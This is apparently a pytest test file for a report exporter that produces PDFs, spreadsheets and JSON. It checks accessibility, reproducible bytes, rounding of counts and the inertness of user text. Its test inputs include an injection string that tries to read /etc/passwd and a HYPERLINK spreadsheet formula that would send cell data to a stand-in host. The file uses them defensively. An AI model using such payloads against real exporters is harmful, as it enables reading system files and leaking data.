"""A version as a file: the same bytes each time, accessible, and whatever people type is only text in it."""

import copy
import hashlib
import io
import json
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO
from typing import Any

import pikepdf
import pytest
from flask import Flask
from python_calamine import CalamineWorkbook

from alliance_tracker.database import clock_at
from alliance_tracker.i18n import LANGUAGES, InTwoLanguages
from alliance_tracker.impact_reports import blocks, document, pdf, reading, taking_along, workbook, written
from alliance_tracker.impact_reports.blocks import Course, Figures, Point, Row, Value, ValueKind
from alliance_tracker.impact_reports.models import ReportVersion, SectionKey
from alliance_tracker.impact_reports.pdf import Form
from tests.builders import make_signal
from tests.convenants.test_document import text_of
from tests.impact_reports.making import YEAR, begun, logged_year, open_year, reload, submitted, tell

HOSTILE = '😀👩‍👩‍👧 你好 مرحبا \u202e\x07 #read("/etc/passwd") #import "x": * *b* _i_ $x$ `c` <a> @b \\ // c /* d = kop'


@pytest.fixture
def version(context: Flask) -> ReportVersion:
    """A submitted version."""
    logged = logged_year(name="Kempen Samen")
    open_year()
    return submitted(logged)


def printed(found: dict[str, Any], form: Form = Form.REPORT, language: str = "nl", *, exact: bool = True) -> bytes:
    return pdf.of_text(reading.read(found, exact=exact), form, document.digest(found), language)


def with_words(version: ReportVersion, words: str) -> dict[str, Any]:
    """The document of a version with these words wherever somebody typed."""
    found, name = copy.deepcopy(version.document), " ".join(words.split())[:160]
    found["alliance"]["name"] = name
    found["change_note"] = words
    for part in found["sections"]:
        part["narrative"] = words
        for block in part["figures"]["blocks"]:
            if block["block"] == "quote":
                block["heading"] = {"nl": name, "en": name}
            for value in values_of(block):
                if value["is"] == "text":
                    value["value"] = words
    for partner in found["partners"]:
        partner |= {"name": name, "answer": "refused", "on": "2026-01-01", "version": 1, "remark": words}
    return found


def values_of(block: dict[str, Any]) -> list[dict[str, Any]]:
    rows = [cell for row in block.get("rows", ()) for cell in row["cells"]]
    return [*rows, *block.get("lines", ()), *([block["value"]] if "value" in block else [])]


# PDF -----------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", list(Form))
@pytest.mark.parametrize("language", ["nl", "en"])
def test_every_pdf_is_tagged_archival_and_in_the_language_asked(
    version: ReportVersion, form: Form, language: str
) -> None:
    content = printed(version.document, form, language)
    file = pikepdf.open(BytesIO(content))
    assert file.Root.MarkInfo.Marked
    assert "/StructTreeRoot" in file.Root
    assert str(file.Root.Lang).lower().startswith(language)
    assert file.Root.ViewerPreferences.DisplayDocTitle
    with file.open_metadata() as meta:
        assert (meta["pdfaid:part"], meta["pdfaid:conformance"], meta["pdfuaid:part"]) == ("2", "A", "1")
        title = {"nl": f"Impactrapport {YEAR}: Kempen Samen", "en": f"Impact report {YEAR}: Kempen Samen"}
        assert meta["dc:title"] == title[language]
    kinds = {
        str(thing.S)
        for thing in file.objects
        if isinstance(thing, pikepdf.Dictionary) and "/S" in thing and "/P" in thing
    }
    assert {"/H1", "/Table", "/TH", "/TD", "/Figure"} <= kinds
    figures = [
        thing
        for thing in file.objects
        if isinstance(thing, pikepdf.Dictionary) and thing.get("/S") == pikepdf.Name.Figure
    ]
    assert all("/Alt" in figure for figure in figures)
    words = text_of(content)
    assert document.digest(version.document) in words.replace(" ", "")


def test_the_whole_report_says_everything_and_a_summary_only_part(version: ReportVersion) -> None:
    whole = text_of(printed(version.document))
    for words in ("Meer meisjes in STEM", "Netwerkoverleg op 10 mei.", "Techniekdag", "Een goed jaar.", "212", "247"):
        assert words in whole, words
    council = text_of(printed(version.document, Form.COUNCIL))
    assert "Meer meisjes in STEM" in council
    assert "Netwerkoverleg op 10 mei." not in council


def test_outside_the_pdf_tells_rounded_counts_and_says_so(version: ReportVersion) -> None:
    for form in Form:
        words = text_of(printed(version.document, form, exact=False))
        assert "veelvoud van 5" in words
        assert "212" not in words
        assert "247" not in words
        assert "210" in words
    assert "veelvoud van 5" not in text_of(printed(version.document))


def test_the_same_version_gives_the_same_bytes(version: ReportVersion) -> None:
    made: dict[tuple[str, str, bool], bytes] = {}
    for moment in (datetime(2026, 11, 21, 12, tzinfo=UTC), datetime(2028, 2, 29, 23, 30, tzinfo=UTC)):
        with clock_at(moment):
            for form, ext in [(each.value, "pdf") for each in Form] + [("report", "xlsx"), ("report", "json")]:
                for language in LANGUAGES:
                    for exact in (True, False):
                        found = taking_along.make(reload(version), form, ext, language=language, exact=exact)
                        assert found is not None
                        key = (f"{form}.{ext}", language, exact)
                        assert made.setdefault(key, found.content) == found.content
    prints = [content for (name, _, _), content in made.items() if name.endswith("pdf")]
    assert len(set(prints)) == len(prints) == 12


@pytest.mark.parametrize(
    "words",
    [
        HOSTILE,
        "woord " * 3333,
        "9" * 20_000,
        "a\n" * 2_000,
        "#" * 500 + "\n\n\n" + "[" * 500 + '"' * 100 + "\\" * 100,
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 " * 200,
    ],
    ids=["hostile", "long", "digits", "lines", "signs", "arabic"],
)
def test_whatever_people_type_is_printed_and_never_fails(version: ReportVersion, words: str) -> None:
    found = with_words(version, words)
    for form in Form:
        assert printed(found, form).startswith(b"%PDF-")
    assert workbook.of_text(reading.read(found, exact=True), "0" * 64, "nl").startswith(b"PK")


def test_typed_code_is_printed_as_it_was_typed(version: ReportVersion) -> None:
    content = printed(with_words(version, HOSTILE))
    words = text_of(content)
    assert '#read("/etc/passwd")' in words
    assert "*b* _i_ $x$" in words
    assert "[?]" in words
    assert b"root:" not in content
    assert "root:" not in words


@pytest.mark.parametrize("goals", [0, 3, 60])
@pytest.mark.parametrize("words", ["Kort.", "Een lange zin die blijft duren. " * 600, "a\n\n" * 3000, "x" * 20_000])
def test_a_summary_has_at_most_two_pages(version: ReportVersion, goals: int, words: str) -> None:
    found = with_words(version, words) if len(words) > 100 else copy.deepcopy(version.document)
    section = next(part for part in found["sections"] if part["key"] == "goals")["figures"]
    (table,) = [block for block in section["blocks"] if block["block"] == "table"]
    section["blocks"] = []
    for n in range(goals):
        rows = [{**table["rows"][0], "key": f"indicator-{i}"} for i in range(12)]
        caption = {"nl": f"Doel {n} {found['alliance']['name'][:120]}", "en": f"Goal {n}"}
        section["blocks"].append({**table, "key": f"goal-{n}", "caption": caption, "rows": rows})
    found["partners"] = found["partners"] * 20
    for form in (Form.COMPANIES, Form.COUNCIL):
        content = printed(found, form)
        assert len(pikepdf.open(BytesIO(content)).pages) <= 2
        if goals > 12:
            assert "in het hele rapport" in text_of(content)


def test_a_summary_that_has_room_tells_more(version: ReportVersion) -> None:
    found = copy.deepcopy(version.document)
    section = next(part for part in found["sections"] if part["key"] == "goals")
    section["narrative"] = "Zin van dertig tekens, ongeveer. " * 9
    assert text_of(printed(found, Form.COMPANIES)).count("ongeveer") == 9


# Spreadsheet ---------------------------------------------------------------------------------------------------------


def sheets(content: bytes) -> dict[str, list[list[Any]]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def spreadsheet(version: ReportVersion, language: str = "nl", *, exact: bool = True) -> dict[str, list[list[Any]]]:
    made = taking_along.make(version, "report", "xlsx", language=language, exact=exact)
    assert made is not None
    return sheets(made.content)


@pytest.mark.parametrize("language", ["nl", "en"])
def test_a_spreadsheet_has_a_sheet_per_section_with_numbers_as_numbers(version: ReportVersion, language: str) -> None:
    found = spreadsheet(version, language)
    assert len(found) == len(SectionKey) + 1
    everything = [cell for rows in found.values() for row in rows for cell in row]
    assert 212 in everything
    assert 247 in everything
    assert "212" not in everything
    about = next(iter(found.values()))
    assert any(version.sha256 in row for row in about)
    assert ("Alliantie" if language == "nl" else "Alliance") in [row[0] for row in about]


def test_a_spreadsheet_for_outside_holds_rounded_counts(version: ReportVersion) -> None:
    found = spreadsheet(version, exact=False)
    everything = [cell for rows in found.values() for row in rows for cell in row]
    assert 212 not in everything
    assert 247 not in everything
    assert 210 in everything
    assert any("veelvoud van 5" in str(cell) for cell in everything)


def rich(version: ReportVersion, *, purpose: str = "erratum") -> dict[str, Any]:
    """The document of an erratum of example data: a percentage, a course with a target, a partner that signed."""
    found = copy.deepcopy(version.document)
    found |= {"purpose": purpose, "change_note": "Telfout in juni."}
    found["alliance"]["provenance"] = "example"
    found["partners"][0] |= {"answer": "signed", "on": "2026-02-03", "version": 2, "remark": "Met plezier."}
    share = Value(ValueKind.PERCENT, "43.75", numerator="7", denominator="16")
    words = InTwoLanguages("Aandeel", "Share")
    goals = next(part for part in found["sections"] if part["key"] == "goals")
    goals["figures"] = written.written(
        Figures(
            (
                blocks.fact("x", words, blocks.count(3), source=words, as_of=date(2025, 4, 5)),
                blocks.table("t", words, {"a": "A", "b": "B"}, [Row("r", (blocks.words(words), share))], source=words),
                blocks.table("e", words, {"a": "A"}, [], empty=InTwoLanguages("Niets hier.", "Nothing here.")),
                Course("c", words, (Point("2025", share, blocks.euro(Decimal(12))),), words, blocks.both("Lijst.")),
            )
        )
    )
    return found


def test_a_spreadsheet_says_all_that_the_report_says(version: ReportVersion) -> None:
    text = reading.read(rich(version), exact=True)
    content = workbook.of_text(text, "0" * 64, "nl")
    found = sheets(content)
    about = [cell for row in next(iter(found.values())) for cell in row]
    for cell in (
        "Voorbeeldgegevens",
        "Telfout in juni.",
        "Wat dit erratum verbetert",
        date(2026, 2, 3),
        2,
        "Met plezier.",
    ):
        assert cell in about, cell
    goals = found["Doelen en indicatoren"]
    assert any("Gelezen uit het logboek op" in str(row[0]) for row in goals)
    assert any("Voorbeeldgegevens" in str(row[0]) for row in goals)
    cells = [cell for row in goals for cell in row]
    for each in (
        0.4375,
        7,
        16,
        12,
        date(2025, 4, 5),
        "Niets hier.",
        "B (deel)",
        "B (van)",
        "Bron zoals ingevoerd: Lijst.",
    ):
        assert each in cells, each
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert b'formatCode="0.0%"' in book.read("xl/styles.xml")
    outside = sheets(workbook.of_text(reading.read(rich(version), exact=False), "0" * 64, "nl"))
    cells = [cell for rows in outside.values() for row in rows for cell in row]
    assert "Telfout in juni." in cells
    assert "Met plezier." not in cells
    assert not any("Lijst." in str(cell) for cell in cells)


def test_a_pdf_prints_its_sources_and_where_it_is_checked(version: ReportVersion) -> None:
    words = text_of(printed(version.document))
    for each in ("Ingevoerd door de alliantie", "De vergaderingen in het logboek", "http://localhost/public/verify"):
        assert each in words, each
    older = {key: value for key, value in version.document.items() if key != "base"}
    assert "/public/verify" not in text_of(printed(older))
    inside, outside = (text_of(printed(rich(version), exact=exact)) for exact in (True, False))
    assert "Bron zoals ingevoerd: Lijst." in inside
    assert "Bron zoals ingevoerd" not in outside


def test_an_older_document_is_read_and_printed_as_before(version: ReportVersion) -> None:
    older = copy.deepcopy(version.document)
    older["shape"] = 1
    del older["base"]
    for part in older["sections"]:
        for block in part["figures"]["blocks"]:
            block.pop("typed_source", None)
            if block["block"] == "quote":
                block.pop("source", None)
    for exact in (True, False):
        assert reading.read(older, exact=exact).check_address == ""
        assert printed(older, exact=exact).startswith(b"%PDF-")


def test_only_an_erratum_says_on_its_cover_what_changed(version: ReportVersion) -> None:
    assert "Telfout in juni." in text_of(printed(rich(version)))
    assert "Telfout in juni." not in text_of(printed(rich(version, purpose="report")))


def words_of_page(content: bytes, number: int) -> str:
    """The words of one page of a PDF."""
    held, whole, alone = BytesIO(), pikepdf.open(BytesIO(content)), pikepdf.new()
    alone.pages.append(whole.pages[number])
    alone.save(held)
    return text_of(held.getvalue())


def test_what_the_fonts_cannot_show_is_explained_on_the_first_page(version: ReportVersion) -> None:
    content = printed(with_words(version, HOSTILE))
    assert "staat voor tekens" in words_of_page(content, 0)


@pytest.mark.parametrize("goals", [1, 2, 3, 4, 5, 6])
def test_no_note_of_a_table_stands_alone_on_the_second_page(version: ReportVersion, goals: int) -> None:
    found = copy.deepcopy(version.document)
    section = next(part for part in found["sections"] if part["key"] == "goals")["figures"]
    (table,) = [block for block in section["blocks"] if block["block"] == "table"]
    rows = [{**table["rows"][0], "key": f"indicator-{i}"} for i in range(4)]
    section["blocks"] = [{**table, "key": f"goal-{n}", "rows": rows} for n in range(goals)]
    for form in (Form.COMPANIES, Form.COUNCIL):
        content = printed(found, form)
        if len(pikepdf.open(BytesIO(content)).pages) > 1:
            words = " ".join(words_of_page(content, 1).split())
            assert words
            assert not words.startswith(("Ingevoerd door de alliantie", "De partners van", "Geteld in"))


def test_typed_text_is_never_a_formula(context: Flask) -> None:
    formula = '=HYPERLINK("http://x.example/?"&A1,"klik")'
    logged = logged_year()
    make_signal(logged.alliance, "+1+2", by=logged.coordinator, text=formula)
    open_year()
    report = begun(logged)
    tell(report, "@SUM(A1:A9)", SectionKey.GOALS, by=logged.coordinator)
    version = submitted(logged, formula)
    made = taking_along.make(version, "report", "xlsx", language="nl", exact=True)
    assert made is not None
    with zipfile.ZipFile(io.BytesIO(made.content)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name)
        assert not any("externalLink" in name for name in book.namelist())
        assert b"http://x.example" not in b"".join(book.read(name) for name in book.namelist() if "rels" in name)
    everything = [cell for rows in sheets(made.content).values() for row in rows for cell in row]
    assert formula in everything
    assert "@SUM(A1:A9)" in everything


# JSON ----------------------------------------------------------------------------------------------------------------


def test_the_json_is_canonical_and_its_hash_is_the_fingerprint(version: ReportVersion) -> None:
    made = taking_along.make(version, "report", "json", language="nl", exact=True)
    assert made is not None
    assert hashlib.sha256(made.content).hexdigest() == version.sha256
    found = json.loads(made.content)
    assert found == version.document
    assert json.dumps(found, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode() == made.content
    assert "people_rounded_to" not in found


def test_the_rounded_json_says_so(version: ReportVersion) -> None:
    made = taking_along.make(version, "report", "json", language="nl", exact=False)
    assert made is not None
    found = json.loads(made.content)
    assert found["people_rounded_to"] == 5
    assert hashlib.sha256(made.content).hexdigest() != version.sha256
    assert reading.read(found, exact=True).key_figures  # it has the shape of the exact one
    assert all(partner["remark"] == "" for partner in found["partners"])


@pytest.mark.parametrize(
    ("form", "ext"), [("report", "docx"), ("companies", "xlsx"), ("council", "json"), ("x", "pdf")]
)
def test_there_is_no_other_file(version: ReportVersion, form: str, ext: str) -> None:
    assert taking_along.make(version, form, ext, language="nl", exact=True) is None


def test_a_file_is_called_after_what_it_holds(version: ReportVersion, freeze: Callable[[datetime], None]) -> None:
    names = {
        made.name
        for form, ext, language in (("report", "pdf", "nl"), ("council", "pdf", "en"), ("report", "json", "nl"))
        if (made := taking_along.make(version, form, ext, language=language, exact=True))
    }
    slug = version.document["alliance"]["slug"]
    assert names == {f"{slug}-{YEAR}-v1-nl.pdf", f"{slug}-{YEAR}-v1-council-en.pdf", f"{slug}-{YEAR}-v1.json"}
